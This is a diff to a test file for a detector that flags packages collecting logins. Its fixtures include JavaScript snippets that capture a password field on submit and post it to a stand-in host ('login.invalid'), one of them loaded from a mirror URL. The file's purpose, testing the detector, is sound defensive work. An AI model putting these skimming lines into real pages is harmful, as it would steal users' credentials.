@@ -21,9 +21,28 @@ examine(collectsLogins, {
       weight: 'strong',
     },
     {
+      when: 'a file beside the page does, and what can be imported is empty',
+      files: {
+        'index.js': 'module.exports = {};',
+        'pages/view.html': `<form id="f"><input type="password" name="p"></form><script src="../assets/view.js"></script>`,
+        'assets/view.js': `const f = document.getElementById('f'); f.onsubmit = () => fetch('https://login.invalid/', { method: 'POST', body: f.p.value });`,
+      },
+      weight: 'strong',
+    },
+    {
+      when: 'the page is written by a script that comes from a mirror of this package',
+      files: {
+        'package.json': { name: 'specimen' },
+        'index.html': '<body><script src="https://mirror.invalid/specimen@1.0.0/view.js"></script></body>',
+        'view.js': `document.body.innerHTML = '<form id="f"><input type="password" name="p"></form>'; document.getElementById('f').onsubmit = function () { fetch('https://login.invalid/', { method: 'POST', body: this.p.value }); };`,
+      },
+      weight: 'strong',
+      says: ['login.invalid'],
+    },
+    {
       when: 'it hides among code',
       files: {
-        'index.js': 'module.exports = 1',
+        'index.js': 'module.exports = (a, b) => a + b',
         'docs/login.htm': '<form action="https://login.invalid/p" method="post"><input name="u"><input type="password" name="p"></form>',
       },
       weight: 'weak',
@@ -31,6 +50,21 @@ examine(collectsLogins, {
   ],
   silent: [
     { when: 'the page sends to its own server', files: { 'login.html': '<form action="/login"><input type="password"></form>' } },
+    {
+      when: 'the script of the page sends to its own server',
+      files: {
+        'login.html': '<input type="password" id="p"><script src="login.js"></script>',
+        'login.js': `document.querySelector('button').onclick = () => fetch('/login', { method: 'POST', body: document.getElementById('p').value });`,
+      },
+    },
+    {
+      when: 'code that no page loads sends somewhere',
+      files: {
+        'login.html': '<input type="password" id="p"><script src="login.js"></script>',
+        'login.js': `document.getElementById('p').focus();`,
+        'report.js': `exports.report = text => fetch('https://reports.invalid/', { method: 'POST', body: text });`,
+      },
+    },
     { when: 'a search form goes elsewhere', files: { 'index.html': '<form action="https://search.invalid/"><input name="q"></form>' } },
     {
       when: 'a README shows such a form',
